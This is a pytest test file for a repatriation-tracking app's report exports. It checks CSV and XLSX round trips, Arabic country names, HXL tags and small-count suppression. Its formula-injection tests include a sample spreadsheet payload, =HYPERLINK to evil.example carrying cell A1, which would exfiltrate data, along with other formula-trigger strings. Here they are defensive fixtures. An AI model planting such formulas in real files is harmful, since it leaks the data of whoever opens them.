"""Report tables and files: read back as a partner would, injection kept as text, and small
counts suppressed so that no total gives a withheld count back."""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from alhol_desk.core import overview, report_files, services
from alhol_desk.core.demo import load_demo
from alhol_desk.core.records import AGE_BANDS, Batch
from alhol_desk.core.reports import (
    BATCH_COLUMNS,
    BATCH_PERIOD_COLUMNS,
    PRIVATE_COLUMNS,
    Report,
    Table,
    Withheld,
    batch_spans,
    build_report,
    shown,
)
from alhol_desk.core.workspace import Workspace

NOW = datetime(2024, 6, 1, 9, 30, tzinfo=UTC)
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def add(ws: Workspace, **fields: Any) -> str:
    raw = {"country": "IRQ", "departure_date": "2024-05-01", "status": "received", "source": "UN"}
    return services.save_batch(ws, raw | fields).record.id


@pytest.fixture
def workspace(demo_workspace: Workspace) -> Workspace:
    """The demo folder: the demo records load only into one (core/demo.py)."""
    return demo_workspace


@pytest.fixture
def filled(workspace: Workspace) -> Workspace:
    """Demo data (Russia's 32 children) plus Iraqi batches, one planned, one deleted."""
    load_demo(workspace)
    add(workspace, women=4, girls=2, boys=3, families=2, ref="IRQ-7", destination="Baghdad")
    add(workspace, women=20, men=16, girls=12, boys=9, unaccompanied=1, separated=2)
    add(workspace, status="planned", departure_date="2024-07-01", girls=6, source=None)
    gone = add(workspace, women=50)
    services.delete_batch(workspace, gone)
    services.add_status_event(
        workspace,
        {"country": "FRA", "status": "in_talks", "event_date": "2024-03-02", "source": "AFP"},
    )
    return workspace


def cells(table: Table, key: str) -> list[Any]:
    return table.column(key)


def row_for(table: Table, **match: Any) -> dict[str, Any]:
    keys = [c.key for c in table.columns]
    for row in table.rows:
        values = dict(zip(keys, row, strict=True))
        if all(values[k] == v for k, v in match.items()):
            return values
    raise AssertionError(f"no row with {match}")


# --- tables ----------------------------------------------------------------------------------


def test_batches_table_holds_every_live_batch_with_names_and_dates(filled: Workspace) -> None:
    report = build_report(filled, now=NOW)
    table = report.batches
    assert len(table.rows) == 4  # Russia, three Iraqi; the deleted one is left out
    iraq = row_for(table, ref="IRQ-7")
    assert iraq["country"] == "IRQ"
    assert iraq["name_en"] == "Iraq"
    assert iraq["name_ar"] == "العراق"
    assert iraq["departure_date"] == date(2024, 5, 1)
    assert (iraq["women"], iraq["girls"], iraq["boys"], iraq["people"]) == (4, 2, 3, 9)
    assert (iraq["children"], iraq["adults"], iraq["families"]) == (5, 4, 2)
    assert iraq["destination"] == "Baghdad"
    assert set(cells(table, "status")) == {"received", "planned"}
    russia = row_for(table, country="RUS")
    assert (russia["min_age"], russia["max_age"], russia["children"]) == (5, 17, 32)


def test_summary_gives_the_same_figures_as_the_dashboard(filled: Workspace) -> None:
    report = build_report(filled, now=NOW)
    stats = overview.stats(filled)
    summary = {str(row[0]): row[1] for row in report.summary.rows}
    people = stats.people
    assert summary["People repatriated"] == people.total == 32 + 9 + 57
    for key, label in (
        ("women", "Women"),
        ("girls", "Girls"),
        ("unaccompanied", "Unaccompanied children"),
    ):
        assert summary[f"{label} repatriated"] == getattr(people, key)
    assert summary["Batches repatriated"] == stats.batches_repatriated == 3
    assert summary["Countries that have started repatriating"] == 2
    assert summary["Countries with status: in talks"] == 1
    assert summary["Camp population (estimate)"] == 43000


def test_country_summary_lists_countries_with_a_status_or_a_batch(filled: Workspace) -> None:
    report = build_report(filled, now=NOW)
    table = report.countries
    assert set(cells(table, "country")) == {"FRA", "IRQ", "RUS"}
    france = row_for(table, country="FRA")
    assert france["status"] == "in_talks"
    assert france["status_date"] == date(2024, 3, 2)
    assert france["status_source"] == "AFP"
    assert (france["batches"], france["people"]) == (0, 0)
    iraq = row_for(table, country="IRQ")
    assert iraq["status"] is None
    assert (iraq["batches"], iraq["pending"]) == (2, 1)
    assert (iraq["women"], iraq["men"], iraq["girls"], iraq["boys"]) == (24, 16, 14, 12)
    assert iraq["people"] == 66
    assert iraq["latest_departure"] == date(2024, 5, 1)
    russia = row_for(table, country="RUS")
    assert russia["name_ar"] == "الاتّحاد الرّوسي"


# --- CSV -------------------------------------------------------------------------------------


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_round_trip_with_the_hxl_row(filled: Workspace, tmp_path: Path) -> None:
    report = build_report(filled, now=NOW)
    out = report_files.write_csv(report, tmp_path / "batches.csv")
    rows = read_csv(out)
    header, tags, *data = rows
    assert header == [c.label for c in (*BATCH_COLUMNS, *BATCH_PERIOD_COLUMNS)]
    assert all(tag.startswith("#") for tag in tags)
    columns = dict(zip(tags, header, strict=True))
    for tag in (
        "#country+code",
        "#country+name+i_ar",
        "#date+occurred",
        "#affected+f+children",
        "#affected+m+children",
        "#affected+f+adults",
        "#affected+m+adults",
        "#affected+children+unaccompanied",
    ):
        assert tag in columns
    assert len(data) == 4
    by_ref = {row[header.index("Batch reference")]: row for row in data}
    iraq = by_ref["IRQ-7"]
    assert iraq[tags.index("#country+name+i_ar")] == "العراق"
    assert iraq[tags.index("#date+occurred")] == "2024-05-01"
    assert iraq[tags.index("#affected+f+children")] == "2"
    assert iraq[tags.index("#affected+hh")] == "2"
    assert iraq[header.index("Youngest child (age)")] == ""  # not known stays empty


def test_csv_of_the_country_summary(filled: Workspace, tmp_path: Path) -> None:
    report = build_report(filled, now=NOW)
    out = report_files.write_csv(report, tmp_path / "countries.csv", table="countries")
    header, tags, *data = read_csv(out)
    assert header[:3] == ["Country code", "Country", "Country (Arabic)"]
    assert tags[0] == "#country+code"
    assert sorted(row[0] for row in data) == ["FRA", "IRQ", "RUS"]


def test_a_csv_replaces_the_old_file_whole_and_leaves_no_temporary_file(
    filled: Workspace, tmp_path: Path
) -> None:
    folder = tmp_path / "stick"
    folder.mkdir()
    out = folder / "r.csv"
    out.write_text("old")
    report_files.write_csv(build_report(filled, now=NOW), out)
    assert read_csv(out)[0][0] == "Country code"
    assert sorted(p.name for p in folder.iterdir()) == ["r.csv"]


# --- XLSX ------------------------------------------------------------------------------------


def test_xlsx_round_trip_sheets_types_and_arabic(filled: Workspace, tmp_path: Path) -> None:
    report = build_report(filled, now=NOW)
    out = report_files.write_xlsx(report, tmp_path / "report.xlsx")
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Summary", "Batches", "Countries"]

    sheet = book["Batches"]
    header = [c.value for c in sheet[1]]
    tags = [c.value for c in sheet[2]]
    assert header == [c.label for c in (*BATCH_COLUMNS, *BATCH_PERIOD_COLUMNS)]
    assert tags[0] == "#country+code"
    assert sheet.freeze_panes == "A3"
    rows = {r[header.index("Batch reference")].value: r for r in sheet.iter_rows(min_row=3)}
    iraq = rows["IRQ-7"]
    girls = iraq[header.index("Girls")]
    assert girls.value == 2 and girls.data_type == "n"
    departed = iraq[header.index("Departure date")]
    assert departed.is_date and departed.value == datetime(2024, 5, 1)
    assert departed.number_format == "yyyy-mm-dd"
    arabic = iraq[header.index("Country (Arabic)")]
    assert arabic.value == "العراق" and arabic.data_type == "s"
    assert iraq[header.index("Families")].value == 2
    assert iraq[header.index("Youngest child (age)")].value is None
    assert sheet.column_dimensions["B"].width >= len("Russian Federation")

    countries = book["Countries"]
    assert [c.value for c in countries[1]][:2] == ["Country code", "Country"]
    assert {r[0].value for r in countries.iter_rows(min_row=3)} == {"FRA", "IRQ", "RUS"}

    summary = book["Summary"]
    figures = {r[0].value: r[1].value for r in summary.iter_rows() if r[0].value}
    assert figures["People repatriated"] == 98
    assert figures["Team"] == "Hasakah 1"
    assert figures["Generated (UTC)"] == datetime(2024, 6, 1, 9, 30)


# --- formula injection -----------------------------------------------------------------------


@pytest.mark.parametrize("note", INJECTIONS)
def test_csv_keeps_formula_like_text_as_text(
    workspace: Workspace, tmp_path: Path, note: str
) -> None:
    # Control characters are refused on entry, so a tab or CR could only come from elsewhere:
    # the writer is checked on its own for those.
    assert report_files.neutralise(note) == "'" + note
    add(workspace, women=5, note="x", ref=note.strip())
    out = report_files.write_csv(build_report(workspace, now=NOW), tmp_path / "r.csv")
    header, _, *data = read_csv(out)
    refs = {row[header.index("Batch reference")] for row in data}
    assert "'" + note.strip() in refs
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in data for cell in row)


def test_plain_text_and_numbers_are_not_quoted() -> None:
    assert report_files.neutralise("UNHCR, 2024") == "UNHCR, 2024"
    assert report_files.neutralise("العراق") == "العراق"
    assert report_files.neutralise("<5") == "<5"


def test_xlsx_writes_formula_like_text_as_quoted_strings(
    workspace: Workspace, tmp_path: Path
) -> None:
    for i, text in enumerate(INJECTIONS[:4]):
        add(workspace, women=5 + i, note=text, source=text, agency=text)
    out = report_files.write_xlsx(build_report(workspace, now=NOW), tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(out)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value in INJECTIONS:
                    assert cell.data_type == "s"
                    assert cell.quotePrefix, "stays text even when the cell is edited"
                    seen.add(cell.value)
    assert seen == set(INJECTIONS[:4])


# --- small-count suppression -----------------------------------------------------------------


def test_counts_of_one_to_four_are_withheld_and_zero_stays(
    workspace: Workspace, tmp_path: Path
) -> None:
    add(workspace, women=5, men=0, girls=1, boys=4, families=3, unaccompanied=0, separated=1)
    report = build_report(workspace, suppress_small=True, now=NOW)
    row = row_for(report.batches, country="IRQ")
    assert row["women"] == 5 and row["men"] == 0
    assert str(row["girls"]) == str(row["boys"]) == str(row["families"]) == "<5"
    assert str(row["separated"]) == "<5" and row["unaccompanied"] == 0
    # Totals are what the shown cells allow, never the exact figure behind a "<5".
    assert row["children"] == Withheld(2, 8)
    assert row["people"] == Withheld(7, 13)
    assert row["adults"] == 5
    out = report_files.write_csv(report, tmp_path / "shared.csv")
    header, _, data = read_csv(out)
    assert data[header.index("Girls")] == "<5"
    assert data[header.index("People")] == "7–13"
    assert data[header.index("Men")] == "0"


def test_without_the_option_every_count_is_exact(workspace: Workspace) -> None:
    add(workspace, women=5, girls=1, boys=4)
    row = row_for(build_report(workspace, now=NOW).batches, country="IRQ")
    assert (row["girls"], row["boys"], row["people"]) == (1, 4, 10)


def test_shared_reports_leave_out_free_text(workspace: Workspace, tmp_path: Path) -> None:
    add(workspace, women=5, note="mother of Ahmad", escort="Officer Khalid")
    shared = build_report(workspace, suppress_small=True, now=NOW)
    keys = {c.key for c in shared.batches.columns}
    assert not keys & PRIVATE_COLUMNS
    out = report_files.write_xlsx(shared, tmp_path / "shared.xlsx")
    text = {
        c.value for s in openpyxl.load_workbook(out).worksheets for r in s.iter_rows() for c in r
    }
    assert "mother of Ahmad" not in text and "Officer Khalid" not in text
    assert any(isinstance(v, str) and "suppressed" in v for v in text)


def test_a_country_total_does_not_give_a_batch_count_back(workspace: Workspace) -> None:
    """Girls 3 (withheld) + girls 10 (shown): the country row must not say 13."""
    add(workspace, women=5, girls=3)
    add(workspace, women=5, girls=10)
    report = build_report(workspace, suppress_small=True, now=NOW)
    iraq = row_for(report.countries, country="IRQ")
    assert iraq["girls"] == Withheld(11, 14)
    summary = {str(row[0]): row[1] for row in report.summary.rows}
    assert summary["Girls repatriated"] == Withheld(11, 14)
    assert summary["Women repatriated"] == 10


def test_age_bands_are_the_leaves_when_given(workspace: Workspace) -> None:
    """Girls 12 = bands 2 + 5 + 5: the 2 is withheld, so girls (and children) are ranges."""
    add(workspace, girls=12, f_0_4=2, f_5_11=5, f_12_17=5)
    row = row_for(build_report(workspace, suppress_small=True, now=NOW).batches, country="IRQ")
    assert str(row["f_0_4"]) == "<5"
    assert row["f_5_11"] == 5
    assert row["girls"] == Withheld(11, 14)
    assert row["children"] == Withheld(11, 14)


_LEAVES = ("women", "men", "girls", "boys", "unaccompanied", "separated", "families")
_TOTALS: Mapping[str, tuple[str, ...]] = {
    "children": ("girls", "boys"),
    "adults": ("women", "men"),
    "people": ("women", "men", "girls", "boys"),
}


@st.composite
def batches(draw: st.DrawFn) -> Batch:
    counts = {sex: draw(st.integers(0, 12)) for sex in ("women", "men", "girls", "boys")}
    bands: dict[str, int | None] = {}
    for sex in ("women", "men", "girls", "boys"):
        names = [band for band, owner in AGE_BANDS if owner == sex]
        if draw(st.booleans()):
            cut = draw(
                st.lists(
                    st.integers(0, counts[sex]), min_size=len(names) - 1, max_size=len(names) - 1
                ).map(sorted)
            )
            edges = [0, *cut, counts[sex]]
            bands |= {n: edges[i + 1] - edges[i] for i, n in enumerate(names)}
    return Batch(
        id="b",
        country="IRQ",
        status="received",
        departure_date="2024-01-01",
        families=draw(st.none() | st.integers(0, 6)),
        unaccompanied=draw(st.integers(0, 6)),
        separated=draw(st.integers(0, 6)),
        **counts,
        **bands,
    )


def _bounds(cell: int | Withheld | None) -> tuple[int, int]:
    if cell is None:
        return (0, 0)
    return (cell, cell) if isinstance(cell, int) else (cell.lo, cell.hi)


@settings(max_examples=300, deadline=None)
@given(batches())
def test_no_total_tells_more_than_its_shown_parts(batch: Batch) -> None:
    spans = batch_spans(batch, suppress=True)
    cells = {key: shown(span) for key, span in spans.items()}
    for key, value in cells.items():
        truth = getattr(batch, key, None) if key not in _TOTALS else None
        if isinstance(value, Withheld) and key in (*_LEAVES, *(b for b, _ in AGE_BANDS)):
            # a leaf is withheld exactly when it is 1 to 4 (or a total of withheld bands)
            assert truth is None or 0 < truth < 5 or key in ("women", "men", "girls", "boys")
        if isinstance(value, int) and key in _LEAVES and truth is not None:
            assert value == truth and not 0 < truth < 5
    for total, parts in _TOTALS.items():
        lo = sum(_bounds(cells[p])[0] for p in parts)
        hi = sum(_bounds(cells[p])[1] for p in parts)
        assert _bounds(cells[total]) == (lo, hi), "a total is only what its parts show"
        true_total = sum(getattr(batch, p) for p in parts)
        assert lo <= true_total <= hi


def test_report_describes_itself(filled: Workspace) -> None:
    report: Report = build_report(filled, suppress_small=True, now=NOW)
    assert report.suppressed and report.generated_at == NOW
    assert [t.name for t in report.tables] == ["Summary", "Batches", "Countries"]
